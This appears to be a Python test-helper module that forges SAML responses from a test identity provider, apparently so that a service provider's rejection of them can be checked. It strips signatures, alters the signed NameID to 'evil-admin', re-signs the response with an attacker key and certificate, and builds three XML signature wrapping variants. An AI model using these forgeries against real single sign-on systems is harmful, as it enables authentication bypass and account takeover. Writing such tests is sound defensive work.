"""What an attacker does to a genuine SAMLResponse from the test IdP (an unencrypted one, so its
assertion can be read and changed): strip signatures, change signed content, sign with another key
while presenting that key's certificate, and the XML signature wrapping moves."""

from __future__ import annotations

import base64
import copy
import shutil
from pathlib import Path

from lxml import etree
from saml2.sigver import CryptoBackendXmlSec1

SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
DS = "http://www.w3.org/2000/09/xmldsig#"
NS = {"saml": SAML, "samlp": SAMLP, "ds": DS}
ASSERTION = f"{{{SAML}}}Assertion"


def parse(answer: str) -> etree._Element:
    return etree.fromstring(
        base64.b64decode(answer), etree.XMLParser(resolve_entities=False, no_network=True)
    )


def encode(root: etree._Element) -> str:
    return base64.b64encode(etree.tostring(root)).decode()


def assertion(root: etree._Element) -> etree._Element:
    found = root.find("saml:Assertion", NS)
    assert found is not None, "the IdP's answer has no plain assertion"
    return found


def make_evil(original: etree._Element, *, name_id: str = "evil-admin") -> etree._Element:
    evil = copy.deepcopy(original)
    for signature in evil.findall("ds:Signature", NS):
        evil.remove(signature)
    evil.set("ID", "_evil" + original.get("ID", "")[1:])
    subject_name = evil.find("saml:Subject/saml:NameID", NS)
    assert subject_name is not None
    subject_name.text = name_id
    return evil


def unsigned(answer: str) -> str:
    root = parse(answer)
    for signature in root.iter(f"{{{DS}}}Signature"):
        signature.getparent().remove(signature)
    return encode(root)


def tampered(answer: str) -> str:
    """The signatures kept, the signed NameID changed."""
    root = parse(answer)
    name = assertion(root).find("saml:Subject/saml:NameID", NS)
    assert name is not None
    name.text = "evil-admin"
    return encode(root)


def signed_by(answer: str, key_file: Path, cert_file: Path) -> str:
    """The NameID changed and both signatures made anew with the attacker's key, whose certificate
    replaces the IdP's in KeyInfo (as if the SP trusted whatever certificate comes along)."""
    root = parse(answer)
    name = assertion(root).find("saml:Subject/saml:NameID", NS)
    assert name is not None
    name.text = "evil-admin"
    pem = cert_file.read_text()
    cert_text = "".join(line for line in pem.splitlines() if "CERTIFICATE" not in line)
    for certificate in root.iter(f"{{{DS}}}X509Certificate"):
        certificate.text = cert_text
    xmlsec = CryptoBackendXmlSec1(shutil.which("xmlsec1"))
    text = etree.tostring(root).decode()
    text = xmlsec.sign_statement(text, f"{SAML}:Assertion", str(key_file), assertion(root).get("ID"))
    text = xmlsec.sign_statement(text, f"{SAMLP}:Response", str(key_file), root.get("ID"))
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def wrapped_evil_first(answer: str) -> str:
    """XSW: an unsigned evil assertion placed before the genuine signed one."""
    root = parse(answer)
    original = assertion(root)
    original.addprevious(make_evil(original))
    return encode(root)


def wrapped_original_inside_evil(answer: str) -> str:
    """XSW: the evil assertion takes the genuine one's place, and carries the genuine signed
    assertion inside its Advice, where a careless check would find a valid signature."""
    root = parse(answer)
    original = assertion(root)
    evil = make_evil(original)
    advice = etree.SubElement(evil, f"{{{SAML}}}Advice")
    original.addprevious(evil)
    advice.append(original)  # moves it
    return encode(root)


def wrapped_same_id(answer: str) -> str:
    """XSW: the evil assertion has the genuine one's ID, and the genuine signed assertion is
    hidden in the Response's Extensions, so the signature's reference resolves to it."""
    root = parse(answer)
    original = assertion(root)
    evil = make_evil(original)
    evil.set("ID", original.get("ID"))
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    issuer = root.find("saml:Issuer", NS)
    assert issuer is not None
    issuer.addnext(extensions)
    original.addprevious(evil)
    extensions.append(original)
    return encode(root)
